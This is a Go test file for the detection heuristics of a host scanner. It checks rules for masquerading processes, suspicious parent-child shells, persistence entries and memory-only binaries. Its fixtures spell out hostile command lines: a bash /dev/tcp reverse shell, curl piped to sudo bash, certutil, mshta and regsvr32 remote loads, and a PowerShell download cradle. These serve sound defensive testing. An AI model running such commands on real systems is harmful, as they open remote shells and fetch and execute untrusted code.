package heuristics

import (
	"strings"
	"testing"

	"github.com/tansa-sec/tansa/internal/scan/result"
)

func TestProcessRules(t *testing.T) {
	tests := []struct {
		name   string
		procs  []result.Process
		conns  []result.Connection
		rule   string
		pid    int
		absent bool
	}{
		{name: "svchost outside System32", procs: []result.Process{{PID: 5, Name: "svchost.exe", Path: `C:\Users\Public\svchost.exe`}}, rule: "process.masquerade", pid: 5},
		{name: "svchost in System32", procs: []result.Process{{PID: 5, Name: "svchost.exe", Path: `C:\Windows\System32\svchost.exe`}}, rule: "process.masquerade", pid: 5, absent: true},
		{name: "sshd outside /usr/sbin", procs: []result.Process{{PID: 6, Name: "sshd", Path: "/var/tmp/.x/sshd"}}, rule: "process.masquerade", pid: 6},
		{name: "sshd in /usr/sbin", procs: []result.Process{{PID: 6, Name: "sshd", Path: "/usr/sbin/sshd"}}, rule: "process.masquerade", pid: 6, absent: true},
		{name: "temp folder on Windows", procs: []result.Process{{PID: 7, Name: "a.exe", Path: `C:\Users\bob\AppData\Local\Temp\a.exe`}}, rule: "process.user-writable-path", pid: 7},
		{name: "downloads", procs: []result.Process{{PID: 7, Name: "a", Path: "/home/bob/Downloads/a"}}, rule: "process.user-writable-path", pid: 7},
		{name: "office to powershell", procs: []result.Process{
			{PID: 1, Name: "WINWORD.EXE", Path: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
			{PID: 2, PPID: 1, Name: "powershell.exe", Path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		}, rule: "process.office-child-shell", pid: 2},
		{name: "web server to shell", procs: []result.Process{
			{PID: 1, Name: "nginx", Path: "/usr/sbin/nginx"},
			{PID: 2, PPID: 1, Name: "sh", Path: "/usr/bin/dash", CommandLine: "sh -c id"},
		}, rule: "process.webserver-child-shell", pid: 2},
		{name: "explorer to powershell is normal", procs: []result.Process{
			{PID: 1, Name: "explorer.exe", Path: `C:\Windows\explorer.exe`},
			{PID: 2, PPID: 1, Name: "powershell.exe", Path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
		}, rule: "process.office-child-shell", pid: 2, absent: true},
		{name: "certutil urlcache", procs: []result.Process{{PID: 3, Name: "certutil.exe", CommandLine: `certutil.exe -urlcache -split -f http://x/a.exe a.exe`}}, rule: "process.command.certutil-download", pid: 3},
		{name: "mshta http", procs: []result.Process{{PID: 3, Name: "mshta.exe", CommandLine: `"C:\Windows\System32\mshta.exe" http://x/a.hta`}}, rule: "process.command.mshta-remote", pid: 3},
		{name: "regsvr32 squiblydoo", procs: []result.Process{{PID: 3, Name: "regsvr32.exe", CommandLine: `regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll`}}, rule: "process.command.regsvr32-remote", pid: 3},
		{name: "powershell -enc", procs: []result.Process{{PID: 3, Name: "powershell.exe", CommandLine: `powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`}}, rule: "process.command.powershell-encoded", pid: 3},
		{name: "powershell -EncodedCommand", procs: []result.Process{{PID: 3, Name: "powershell.exe", CommandLine: `powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA`}}, rule: "process.command.powershell-encoded", pid: 3},
		{name: "powershell -ExecutionPolicy is not -enc", procs: []result.Process{{PID: 3, Name: "powershell.exe", CommandLine: `powershell -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1`}}, rule: "process.command.powershell-encoded", pid: 3, absent: true},
		{name: "curl pipe sh", procs: []result.Process{{PID: 3, Name: "sh", CommandLine: `sh -c curl -fsSL http://x/i.sh | sudo bash`}}, rule: "process.command.download-pipe-shell", pid: 3},
		{name: "reverse shell", procs: []result.Process{{PID: 3, Name: "bash", CommandLine: `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`}}, rule: "process.command.dev-tcp-shell", pid: 3},
		{name: "kernel thread lookalike", procs: []result.Process{{PID: 9, Name: "kworker/0:1", Path: "/usr/local/bin/miner", CommandLine: "[kworker/0:1]"}}, rule: "process.kernel-thread-masquerade", pid: 9},
		{name: "deleted executable from home", procs: []result.Process{{PID: 8, Name: "x", Path: "/home/bob/.x", Deleted: true}}, rule: "process.deleted-executable", pid: 8},
		{name: "deleted and talking", procs: []result.Process{{PID: 8, Name: "x", Path: "/home/bob/.x", Deleted: true}},
			conns: []result.Connection{{Protocol: "tcp", RemoteAddr: "203.0.113.9", RemotePort: 443, PID: 8, State: "ESTABLISHED"}},
			rule:  "process.fileless-network", pid: 8},
		{name: "library from /tmp", procs: []result.Process{{PID: 4, Name: "sshd", Path: "/usr/sbin/sshd", Modules: []string{"/opt/x/lib.so", "/tmp/.x/libkeys.so"}}}, rule: "process.module-user-writable", pid: 4},
		{name: "DLL from Temp", procs: []result.Process{{PID: 4, Name: "explorer.exe", Path: `C:\Windows\explorer.exe`, Modules: []string{`C:\Users\bob\AppData\Local\Temp\version.dll`}}}, rule: "process.module-user-writable", pid: 4},
		{name: "runc's sealed copy is expected", procs: []result.Process{{PID: 8, Name: "runc:[2:INIT]", Path: "/memfd:runc_cloned:/proc/self/exe", Deleted: true}}, rule: "process.memory-only", pid: 8, absent: true},
		{name: "memfd", procs: []result.Process{{PID: 8, Name: "x", Path: "/memfd:x", Deleted: true}}, rule: "process.memory-only", pid: 8},
	}
	rs := New()
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := rs.Evaluate(&result.Result{Processes: tc.procs, Connections: tc.conns})
			found := false
			for _, f := range fs {
				if f.Rule == tc.rule && f.Subject.PID == tc.pid {
					found = true
					if f.Message == "" || strings.Contains(f.Message, "{") || f.Severity != result.Severity(f.Score) {
						t.Errorf("badly explained finding: %+v", f)
					}
				}
			}
			if found == tc.absent {
				t.Errorf("rule %s on pid %d: found = %v, want %v; findings: %+v", tc.rule, tc.pid, found, !tc.absent, fs)
			}
		})
	}
}

func TestSignatureAdjustsUserWritableScore(t *testing.T) {
	yes, no := true, false
	score := func(signed *bool) (int, string) {
		fs := New().Evaluate(&result.Result{Processes: []result.Process{{PID: 7, Name: "a.exe", Path: `C:\Users\bob\Downloads\a.exe`, Signed: signed}}})
		if len(fs) != 1 {
			t.Fatalf("findings = %+v", fs)
		}
		return fs[0].Score, fs[0].MessageKey
	}
	unknown, _ := score(nil)
	signed, sk := score(&yes)
	unsigned, uk := score(&no)
	if !(signed < unknown && unknown < unsigned) || sk == uk {
		t.Errorf("scores signed %d (%s) < unknown %d < unsigned %d (%s) expected", signed, sk, unknown, unsigned, uk)
	}
}

func TestDeletedAfterUpgradeIsLow(t *testing.T) {
	fs := New().Evaluate(&result.Result{Processes: []result.Process{{PID: 8, Name: "sshd", Path: "/usr/sbin/sshd", Deleted: true}}})
	if len(fs) != 1 || fs[0].Score >= 40 || fs[0].MessageKey != "process.deleted-executable.upgraded" {
		t.Errorf("findings = %+v, want one low finding explaining an upgrade", fs)
	}
}

func TestPersistenceRules(t *testing.T) {
	r := &result.Result{Persistence: []result.Persistence{
		{Kind: "registry-run", Name: "Updater", Location: `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run`, Command: `"C:\Users\bob\AppData\Local\Temp\upd.exe" /silent`},
		{Kind: "scheduled-task", Name: `\Sync`, Location: `C:\Windows\System32\Tasks\Sync`, Command: `powershell.exe -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"`},
		{Kind: "registry-run", Name: "OneDrive", Location: `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run`, Command: `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`},
		{Kind: "ifeo-debugger", Name: "sethc.exe", Location: `HKLM\...\sethc.exe`, Command: `C:\Windows\System32\cmd.exe`},
	}}
	got := map[string]bool{}
	for _, f := range New().Evaluate(r) {
		got[f.Rule+" "+f.Subject.Ref] = true
	}
	for _, want := range []string{"persistence.user-writable-path Updater", `persistence.command.powershell-download \Sync`, "persistence.ifeo-debugger sethc.exe"} {
		if !got[want] {
			t.Errorf("missing %q in %v", want, got)
		}
	}
	for k := range got {
		if strings.HasSuffix(k, " OneDrive") {
			t.Errorf("false positive on OneDrive: %s", k)
		}
	}
}

// TestCatalogueCoversEveryKey checks that the server can translate every
// message the rules produce.
func TestCatalogueCoversEveryKey(t *testing.T) {
	rs := New()
	cat := rs.Catalogue()
	for key, tmpl := range rs.templates {
		if cat[key] != tmpl {
			t.Errorf("catalogue[%s] = %q", key, cat[key])
		}
	}
	for _, f := range rs.Evaluate(&result.Result{Processes: []result.Process{{PID: 1, Name: "x", CommandLine: "curl http://a | sh", Path: "/tmp/x"}}}) {
		if _, ok := cat[f.MessageKey]; !ok {
			t.Errorf("key %s not in catalogue", f.MessageKey)
		}
		if result.Expand(cat[f.MessageKey], f.Args) != f.Message {
			t.Errorf("catalogue template for %s does not reproduce %q", f.MessageKey, f.Message)
		}
	}
}
